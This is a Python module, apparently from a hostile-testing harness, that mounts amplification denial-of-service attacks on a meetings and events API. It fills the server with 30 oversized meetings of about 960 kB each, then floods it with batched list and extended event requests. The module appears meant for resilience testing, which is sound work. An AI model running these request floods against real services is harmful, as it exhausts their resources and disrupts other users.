"""Attacks by small requests for large answers."""

from __future__ import annotations

import json

from prove.hostile.target import Answers, Target
from prove.hostile.wire import at_once, batch, exchange, part, request

_MEETINGS = 30
_PEOPLE = 1999
_NAME = 225
"""Characters of a name: with so many people, who lead as well, a meeting has 960 kB."""


async def lists(target: Target, outcome: Answers) -> None:
    """Read a list of big meetings twenty times in one batch."""
    await _fill(target, outcome)
    whole = batch(target, [part("GET", target.meetings)] * 20)
    for _ in range(target.rounds):
        await at_once(target, [whole] * 2, outcome)


async def packages(target: Target, outcome: Answers) -> None:
    """Ask for the events of many big meetings at once."""
    wanted = {"userAgent": "hostile", "endpointId": "packages", "culture": "en-US"}
    asked = request(target, "POST", target.applications, json.dumps(wanted).encode())
    came = await exchange(target, asked, outcome)
    application = json.loads(came.partition(b"\r\n\r\n")[2] or b"{}")
    if "_links" not in application:
        return
    await _fill(target, outcome)
    events = application["_links"]["events"]["href"] + "&extended=true&timeout=2"
    for _ in range(target.rounds):
        await at_once(target, [request(target, "GET", events)], outcome)


async def _fill(target: Target, outcome: Answers) -> None:
    """Schedule meetings that are as large as they may be."""
    names = (f"{n:04}".ljust(_NAME, "a") for n in range(_PEOPLE))
    people = [f"sip:{name}@contoso.com" for name in names]
    body = json.dumps({"attendees": people, "leaders": people}, separators=(",", ":")).encode()
    asked = request(target, "POST", target.meetings, body)
    await at_once(target, [asked] * _MEETINGS, outcome, most=4)
